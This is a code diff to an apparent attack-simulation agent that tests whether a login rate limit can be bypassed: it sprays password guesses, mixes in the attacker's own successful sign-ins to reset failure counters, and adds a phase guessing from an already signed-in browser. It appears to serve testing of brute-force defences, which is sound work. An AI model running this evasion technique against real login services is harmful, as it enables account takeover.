@@ -1,6 +1,7 @@
 // guess-own-between: as guess-spray, and shortly before the limit the attacker begins to sign in to
 // his own account from the same machine, in a new browser and in those that the app knows by then:
-// where success takes the network's failures back, all of them or some, there is no limit.
+// where success takes the network's failures back, all of them or some, there is no limit. Once he
+// stays signed in and guesses in that browser: some apps count nobody there.
 #include "core/attack/every_agent.h"
 #include "core/attack/guesser.h"
 
@@ -9,19 +10,14 @@ namespace {
 
 constexpr std::size_t kBetween = 3;  // guesses, and sign-ins of his own
 
-http::Response spray_from(Guesser& guesser, std::string const& address) {
-    http::Request one = guesser.request(guesser.name(), guesser.right());
-    one.client_address = address;
-    return guesser.guess(one);
-}
-
 class GuessOwnBetween final : public Agent {
     void run(Target& target) override {
         Guesser guesser(target);
         if (!guesser.can_try()) return;
         std::string const address = guesser.new_address();
         std::size_t limit = 0;
-        while (!guesser.is_done(1)) limit += is_refused(spray_from(guesser, address)) ? 0 : 1;
+        while (!guesser.is_done(1))
+            limit += is_refused(guesser.guess(at_next(guesser, address))) ? 0 : 1;
         if (limit <= kBetween) return;
         for (bool const known : {false, true}) {
             if (guesser.is_in()) return;
@@ -29,6 +25,17 @@ class GuessOwnBetween final : public Agent {
             guesser.begin_anew();
             spray_between(target, guesser, address, limit, known);
         }
+        if (guesser.is_in()) return;
+        target.wait(kUntilForgotten);
+        guesser.begin_anew();
+        sign_in_from(target, guesser, address, "");
+        while (!guesser.is_done(1)) guesser.guess_here(at_next(guesser, address));
+    }
+
+    static http::Request at_next(Guesser const& guesser, std::string const& address) {
+        http::Request one = guesser.request(guesser.name(), guesser.right());
+        one.client_address = address;
+        return one;
     }
 
     // In a browser that is known he goes on until it is not let in any more.
@@ -37,7 +44,7 @@ class GuessOwnBetween final : public Agent {
         std::string cookies;
         std::size_t left = limit - kBetween;
         while (!guesser.is_done()) {
-            spray_from(guesser, address);
+            guesser.guess(at_next(guesser, address));
             if (--left > 0) continue;
             left = kBetween;
             for (std::size_t i = 0; i <= kBetween; ++i) {
